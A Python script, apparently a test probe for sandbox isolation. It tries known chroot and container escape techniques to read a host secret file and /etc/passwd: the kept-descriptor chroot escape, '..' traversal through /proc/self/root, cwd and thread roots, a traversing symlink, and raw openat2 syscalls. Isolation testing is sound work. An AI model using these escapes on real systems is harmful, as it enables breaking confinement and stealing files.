"""Climbs out of its root."""
from attack import attempt, host, read, say, syscall
import ctypes
import os

secret = host("SECRET_FILE")


def climb():
    os.chdir("/tmp")
    for _ in range(200):
        os.chdir("..")
    return sorted(os.listdir("."))


def kept_descriptor():
    """The way out of a chroot: a descriptor above a root that is changed below it."""
    above = os.open("/", os.O_RDONLY)
    os.mkdir("/tmp/below")
    os.chroot("/tmp/below")
    os.fchdir(above)


def openat2(path, resolve):
    class OpenHow(ctypes.Structure):
        _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]

    how = OpenHow(0, 0, resolve)
    return syscall(437, -100, path.encode(), ctypes.addressof(how), ctypes.sizeof(how))


say(f"two hundred times ..: {'the same root' if climb() == sorted(os.listdir('/')) else 'elsewhere'}")
attempt("chroot with a descriptor kept", kept_descriptor)
attempt("dots before a path", lambda: read("/../../../../../.." + secret))
attempt("/proc/self/root", lambda: read("/proc/self/root/../.." + secret))
attempt("/proc/self/cwd", lambda: read("/proc/self/cwd/../../.." + secret))
os.symlink("../../../../../../../../.." + secret, "/tmp/link")
attempt("a symbolic link", lambda: read("/tmp/link"))
attempt("openat2", lambda: openat2("/../../../.." + secret, 0))
attempt("openat2, beneath", lambda: openat2("/etc/passwd", 0x08))
attempt("the root of a thread", lambda: read(f"/proc/self/task/{os.getpid()}/root/../.." + secret))
